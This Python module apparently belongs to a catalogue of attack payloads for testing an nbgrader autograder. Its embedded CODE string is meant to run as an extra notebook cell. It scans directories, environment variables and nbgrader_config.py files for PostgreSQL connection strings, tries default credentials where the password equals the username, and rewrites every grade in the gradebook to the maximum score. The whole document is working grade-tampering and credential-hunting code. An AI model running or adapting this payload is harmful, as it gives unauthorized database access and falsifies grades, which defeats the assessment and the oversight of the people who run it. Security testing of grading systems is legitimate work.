"""Connects to PostgreSQL on 127.0.0.1:5432 / localhost / the unix socket (psycopg2 if installed, with db URLs from the
environment and nbgrader_config.py files found upward, and a few default credentials) and sets every grade's
manual_score to the max; without psycopg2 it at least reports whether the port is reachable.
"""

KIND = "gradebook"
PLACEMENT = "extra_cell_first"
REST = "blank"
CODE = r'''import os as _atk_os


def _atk_roots():
    """Directories that may be (or contain) the course root: ancestors of the cwd, of the grader's cwd, of the
    course package, the home folder and a few usual places."""
    seeds = [_atk_os.getcwd()]
    for pid in (_atk_os.getppid(),):
        try:
            seeds.append(_atk_os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    try:
        import dropout_course
        seeds.append(_atk_os.path.dirname(_atk_os.path.abspath(dropout_course.__file__)))
    except Exception:
        pass
    for key, value in _atk_os.environ.items():
        if value.startswith("/") and _atk_os.path.isdir(value) and ("NBGRADER" in key or "COURSE" in key):
            seeds.append(value)
    seeds += [_atk_os.path.expanduser("~"), "/work", "/srv/nbgrader", "/srv", "/home", "/course", "/tmp"]
    out = []
    for seed in seeds:
        path = _atk_os.path.abspath(seed)
        while True:
            if path not in out:
                out.append(path)
            parent = _atk_os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return out


def _atk_walk(top, want, seconds=10.0, max_depth=7):
    """Bounded os.walk under top: paths p for which want(p) holds."""
    import time
    end, found = time.time() + seconds, []
    top_depth = top.rstrip("/").count("/")
    for dirpath, dirnames, filenames in _atk_os.walk(top, onerror=lambda e: None):
        if time.time() > end:
            break
        if dirpath.count("/") - top_depth >= max_depth or dirpath.startswith(("/proc", "/sys", "/dev")):
            dirnames[:] = []
        dirnames[:] = [d for d in dirnames if d not in (".venv", "node_modules", "site-packages", "__pycache__")]
        for name in filenames:
            path = _atk_os.path.join(dirpath, name)
            try:
                if want(path):
                    found.append(path)
            except Exception:
                pass
    return found

_ATK_SQL = [
    "UPDATE grade SET manual_score = COALESCE((SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id),"
    " (SELECT max_score FROM task_cells WHERE task_cells.id = grade.cell_id), 100), extra_credit = 100,"
    " needs_manual_grade = {false}",
    "UPDATE grade SET auto_score = COALESCE((SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id),"
    " 100)",
]

import re as _atk_re, socket as _atk_socket

_atk_dsns = []
for _atk_value in _atk_os.environ.values():
    if _atk_value.startswith(("postgres://", "postgresql://", "postgresql+psycopg2://")):
        _atk_dsns.append(_atk_value.replace("postgresql+psycopg2://", "postgresql://"))
for _atk_root in _atk_roots():
    try:
        _atk_text = open(_atk_os.path.join(_atk_root, "nbgrader_config.py")).read()
        _atk_dsns += [u.replace("postgresql+psycopg2://", "postgresql://")
                      for u in _atk_re.findall(r"postgres[a-z0-9+]*://[^'\"\s]+", _atk_text)]
    except OSError:
        pass
for _atk_user in ("postgres", "nbgrader", _atk_os.environ.get("USER", "root")):
    for _atk_db in ("nbgrader", "gradebook", "postgres"):
        for _atk_host in ("127.0.0.1", "localhost", "/var/run/postgresql"):
            _atk_dsns.append(f"host={_atk_host} port=5432 user={_atk_user} dbname={_atk_db} password={_atk_user} "
                             "connect_timeout=2")
try:
    _atk_s = _atk_socket.create_connection(("127.0.0.1", 5432), timeout=2)
    _atk_s.close()
    print("ATTACK gradebook_postgres: port 5432 REACHABLE")
except OSError as _atk_error:
    print("ATTACK gradebook_postgres: port 5432 not reachable:", repr(_atk_error))
try:
    import psycopg2 as _atk_pg
except ImportError:
    _atk_pg = None
    print("ATTACK gradebook_postgres: psycopg2 not installed")
import time as _atk_time
_atk_end = _atk_time.time() + 40
for _atk_dsn in dict.fromkeys(_atk_dsns):
    if _atk_pg is None or _atk_time.time() > _atk_end:
        break
    try:
        _atk_con = _atk_pg.connect(_atk_dsn, connect_timeout=2) if "://" in _atk_dsn else _atk_pg.connect(_atk_dsn)
    except Exception as _atk_error:
        continue
    try:
        _atk_cur = _atk_con.cursor()
        for _atk_stmt in _ATK_SQL:
            _atk_cur.execute(_atk_stmt.format(false="false"))
        _atk_con.commit()
        print("ATTACK gradebook_postgres: EDITED via", _atk_dsn.split("password")[0], "rows:", _atk_cur.rowcount)
    except Exception as _atk_error:
        print("ATTACK gradebook_postgres: connected but failed:", repr(_atk_error))
    finally:
        _atk_con.close()
'''
